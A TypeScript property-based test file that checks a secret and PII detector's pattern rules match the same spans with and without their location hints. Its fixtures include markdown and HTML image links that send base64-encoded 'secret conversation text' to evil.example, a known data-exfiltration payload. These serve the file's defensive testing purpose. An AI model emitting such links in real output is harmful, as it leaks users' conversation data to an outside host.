import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { collectOf } from '../../src/policy/detect/collect.ts';
import { type Ranked, detectorSet } from '../../src/policy/detect/detector-set.ts';
import type { AnyDetector, RankedMatch } from '../../src/policy/detect/detector.ts';
import { collectMatches } from '../../src/policy/detect/matches.ts';
import { readSigns } from '../../src/policy/detect/plain-signs.ts';
import { contextTexts, prefixTexts } from '../quality/secret-texts.ts';
import { openRandom } from '../simulation/random.ts';
import { everyBuiltIn } from '../support/every-detector.ts';
import { namedValues } from '../support/pii-values.ts';

type Pattern = Extract<AnyDetector, { kind: 'pattern' }>;

const patterns = everyBuiltIn
  .map(({ detector }) => detector)
  .filter((detector): detector is Pattern => detector.kind === 'pattern')
  .filter(({ begins, anchor, near, startsIn, gate }) => [begins, anchor, near, startsIn, gate].some((each) => each !== undefined))
  .map((detector, index) => ({ name: `${detector.entity} ${detector.rule ?? ''} (${String(index)})`, detector }));

/** The pattern tried everywhere: what says where it cannot be is left out. */
function everywhere(detector: Pattern, text: string): readonly RankedMatch[] {
  const matches: RankedMatch[] = [];
  const hints = { begins: undefined, anchor: undefined, near: undefined, startsIn: undefined, gate: undefined };
  collectOf({ detector: { ...detector, ...hints }, priority: 1 }, readSigns(text).plain, 0, text.length, matches);
  return matches;
}

const secrets = [prefixTexts, contextTexts].flatMap((texts) => texts(openRandom(5), 200)).map(({ text }) => text);
const others = [
  'password = "S0mmer-2026!"',
  'Dear Maria van der Berg',
  "ann o'neill",
  '![a](https://evil.example/p.png?q=c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0)',
  '[a]: <http://evil.example/c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0',
  '<img src="https://evil.example/?d=c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0">',
];
const value = fc.oneof(fc.constantFrom(...namedValues), fc.constantFrom(...secrets), fc.constantFrom(...others));

/** What the values have in common with what is none: groups of all lengths, signs between them, words before and letters behind. */
const group = fc.oneof(
  fc.string({ unit: fc.constantFrom(...Array.from('0123456789')), maxLength: 20 }),
  fc.string({ unit: fc.constantFrom(...Array.from('0123456789abcdefABCDEFXYZ')), maxLength: 20 }),
  fc.constantFrom('GB', 'X', '0x', '00', '+', '(', ')', '::', 'bc1', 'é', '\u{1f600}', 'Ann', 'sk-', 'passport ', 'secret_key', 'Dear '),
);
const sign = fc.constantFrom(
  '',
  '',
  ' ',
  ' ',
  '-',
  '.',
  ':',
  '/',
  '_',
  '\u00a0',
  '\\',
  '\\n',
  '\\N',
  '\n',
  ', ',
  '"',
  '=',
  '@',
  '://',
  '](',
  '%0A',
);
const part = fc.oneof(
  value,
  fc.tuple(value, fc.nat({ max: 40 }), fc.boolean()).map(([text, at, isHead]) => (isHead ? text.slice(0, at) : text.slice(at))),
  fc.tuple(value, fc.nat({ max: 40 }), sign).map(([text, at, between]) => text.slice(0, at) + between + text.slice(at)),
  fc.array(fc.tuple(group, sign), { maxLength: 8 }).map((groups) => groups.flat().join('')),
);
const text = fc.array(fc.tuple(part, sign), { maxLength: 6 }).map((parts) => parts.flat().join(''));

describe('where a detector looks', () => {
  it.each(patterns)('$name: nowhere else is a match', ({ detector }) => {
    const set = detectorSet([{ detector, priority: 1 }]);
    for (const each of [
      ...namedValues,
      ...others,
      others.join(' '),
      namedValues.join(' '),
      namedValues.join(''),
      ...secrets.slice(0, 40),
    ]) {
      expect(collectMatches(set, readSigns(each), 0, each.length)).toEqual(everywhere(detector, each));
    }
    fc.assert(
      fc.property(text, (each) => {
        expect(collectMatches(set, readSigns(each), 0, each.length)).toEqual(everywhere(detector, each));
      }),
      { numRuns: 300 },
    );
  });

  it('is the same for a part of a text', () => {
    const ranked: readonly Ranked[] = patterns.map(({ detector }, priority) => ({ detector, priority }));
    const set = detectorSet(ranked);
    fc.assert(
      fc.property(text, fc.nat({ max: 60 }), fc.nat({ max: 60 }), (each, from, length) => {
        const reading = readSigns(each);
        const inPart = collectMatches(set, reading, 0, each.length).filter(({ start }) => start >= from && start < from + length);
        expect(collectMatches(set, reading, from, Math.min(each.length, from + length))).toEqual(inPart);
      }),
      { numRuns: 500 },
    );
  });
});
